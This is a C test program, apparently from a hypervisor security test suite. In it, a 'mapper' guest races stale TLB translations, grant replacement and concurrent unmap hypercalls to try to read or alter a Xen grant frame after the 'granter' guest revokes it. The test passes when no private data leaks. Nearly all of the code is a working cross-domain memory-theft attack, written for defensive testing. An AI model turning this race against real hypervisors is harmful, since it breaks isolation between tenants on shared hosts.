/*
 * Wants: a frame that was granted, after it was given back.
 *
 * The granter is told by two bits of its entry that nobody uses a frame any more; then it takes the grant back, keeps something private
 * there, and grants the frame anew.  The mapper keeps what it can: other vCPUs read and write by translations that their TLBs may
 * still have; handles are unmapped by two vCPUs at once, twice, by other entries and with other rights; entries are
 * overwritten; the domain ends in the middle and comes back.
 *
 * Fails: the entry is emptied, every TLB that may have it is flushed, and only then the bits are cleared, when the last of all mappings
 * is gone.
 *
 * The honest half (the granter, domain 4) looks whether its private page was changed, the other (domain 5) whether it ever
 * saw something private.
 */
#include "attack.h"
#include "clock.h"
#include "grant.h"
#include "guest.h"
#include "memory.h"
#include "tap.h"

#include <paravane/hypercall.h>
#include <xen/grant_table.h>

#define GRANTER (DOMAIN_ATTACKER + 0)
#define MAPPER  (DOMAIN_ATTACKER + 1)
#define FIRST   8u /* references */
#define FRAMES  8u
#define QUICK \
    4u /* the first of them are mapped and replaced, the others pass through shared handles */
#define PRIVATE 0x9417a7e000000000ul
#define VCPUS   4u

#define WATCH_NS 3000000u

static volatile bool done;

/* --- the granter ------------------------------------------------------------------------------------- */

static volatile uint64_t *pages[FRAMES];
static unsigned changed, taken_back;

/* Take the grant back if nobody uses it, as guests do: by an exchange of the flags. */
static bool take_back(volatile uint16_t *flags)
{
    uint16_t free = GTF_permit_access;

    return __atomic_compare_exchange_n(flags, &free, 0, false, __ATOMIC_SEQ_CST, __ATOMIC_SEQ_CST);
}

static void keep_private(volatile uint64_t *page)
{
    for (unsigned i = 0; i < 512; i++)
        page[i] = PRIVATE | i;
    for (unsigned round = 0; round < 30; round++)
        for (unsigned i = 0; i < 512; i++)
            changed += page[i] != (PRIVATE | i);
    for (unsigned i = 0; i < 512; i++)
        page[i] = 0;
}

/* The next of the first entries that comes into use and goes out of it again; any, if that takes long. */
static unsigned watch(struct chance *c)
{
    const uint64_t end = clock_ns() + WATCH_NS;
    unsigned used = FRAMES;

    while (clock_ns() < end) {
        if (used < FRAMES && !(grant_entries()[FIRST + used].flags & GTF_reading))
            return used;
        for (unsigned i = 0; used == FRAMES && i < QUICK; i++)
            if (grant_entries()[FIRST + i].flags & GTF_reading)
                used = i;
    }
    return chance_below(c, FRAMES);
}

static void be_granter(void)
{
    struct chance c = chance_of(0);
    volatile grant_entry_v1_t *entries = grant_entries();

    for (unsigned i = 0; i < FRAMES; i++) {
        pages[i] = page_alloc();
        grant_allow(FIRST + i, MAPPER, page_mfn((void *)pages[i]), 0);
    }
    while (attack_goes_on()) {
        const unsigned i = chance_below(&c, 4) ? watch(&c) : chance_below(&c, FRAMES);
        if (take_back(&entries[FIRST + i].flags)) {
            keep_private(pages[i]);
            taken_back++;
            grant_allow(FIRST + i, MAPPER, page_mfn((void *)pages[i]), 0);
        } else {
            attack_spin(1000);
        }
    }
    tap_note("taken back %u times", taken_back);
    tap_is(changed, 0, "what is private stays as it was");
}

/* --- the mapper -------------------------------------------------------------------------------------- */

/* Shown by vCPU 1 in turn the granter's frames and a page of ours, never nothing: so all may access it. */
static volatile uint64_t *window;
static volatile uint64_t *spare;     /* whose entry takes the place of the mapping's */
static uint64_t *junk_window[VCPUS]; /* entries that are mapped and unmapped, never accessed */
static volatile grant_handle_t handles[16];
static volatile unsigned stolen, shown;

static void access(struct chance *c)
{
    const unsigned i = chance_below(c, 512);

    if ((window[i] & SECRET_MASK) == PRIVATE)
        stolen++;
    window[i] = chance_below(c, 1000);
}

static void map_and_replace(struct chance *c)
{
    struct grant_mapping m =
        grant_map_of(GRANTER, FIRST + chance_below(c, QUICK), (uint64_t)window, GNTMAP_host_map);

    if (m.status)
        return;
    shown++;
    mmuext(MMUEXT_TLB_FLUSH_ALL, 0); /* the page of ours forgotten: who looks now keeps the frame */
    access(c);
    if (chance_below(c, 2))
        attack_spin(chance_below(c, 3000));
    const unsigned long ours = page_mfn((void *)spare);
    (void)grant_replace(m.handle, (uint64_t)window, (uint64_t)spare);
    /* No call meanwhile, which could flush: time for the granter to take the frame back, and for all of us to look at it. */
    for (unsigned looks = chance_below(c, 2) ? chance_below(c, 50000) : 0; looks; looks--)
        access(c);
    mmu_set(memory_entry_ma((uint64_t)spare, 1), pte_of(ours, PTE_RW));
}

/* Anything with handles that others use, too. */
static void junk(struct chance *c, unsigned vcpu)
{
    const unsigned slot = chance_below(c, 16), kind = chance_below(c, 16);
    const uint64_t host = (uint64_t)junk_window[chance_below(c, VCPUS)],
                   slot_address = memory_entry_ma(host, 1);

    if (kind < 6) {
        static const uint32_t flags[] = {GNTMAP_host_map, GNTMAP_device_map,
                                         GNTMAP_host_map | GNTMAP_device_map};
        const uint32_t by_entry = chance_below(c, 2) ? GNTMAP_contains_pte : 0;
        struct grant_mapping m = grant_map_of(
            GRANTER, FIRST + QUICK + chance_below(c, FRAMES - QUICK),
            by_entry ? slot_address : host,
            flags[chance_below(c, 3)] | by_entry | (chance_below(c, 2) ? GNTMAP_readonly : 0));
        if (!m.status)
            handles[slot] = m.handle;
    } else if (kind < 15) {
        struct gnttab_unmap_grant_ref op = {
            .host_addr = chance_below(c, 3) ? host : slot_address,
            .dev_bus_addr = chance_below(c, 2) ? chance_next(c) << PAGE_SHIFT : 0,
            .handle = handles[slot]};
        hypercall_grant_table_op(GNTTABOP_unmap_grant_ref, &op, 1);
    } else if (chance_below(c, 8) == 0) {
        frame_show((void *)host, page_mfn(junk_window[vcpu]), PTE_RW);
    }
}

static void steal(unsigned vcpu)
{
    struct chance c = chance_of(vcpu);

    while (!done) {
        if (vcpu == 1)
            map_and_replace(&c);
        else
            for (unsigned i = 0; i < 50; i++)
                access(&c);
        if (vcpu == 3)
            junk(&c, vcpu);
    }
}

static void be_mapper(void)
{
    struct chance c = chance_of(0);

    window = page_alloc();
    spare = page_alloc();
    for (unsigned i = 0; i < VCPUS; i++)
        junk_window[i] = page_alloc();
    attack_vcpus(VCPUS, steal);
    for (unsigned life = 0; attack_goes_on() && life < 8000; life++)
        for (unsigned i = 0; i < 20; i++)
            junk(&c, 0);
    tap_note("%u frames of the granter's were shown", shown);
    tap_is(stolen, 0, "nothing private was seen");
    attack_again();
}

void guest_main(void)
{
    attack_begin("grant-thief");
    if (guest_option("role", 0))
        be_mapper();
    else
        be_granter();
}
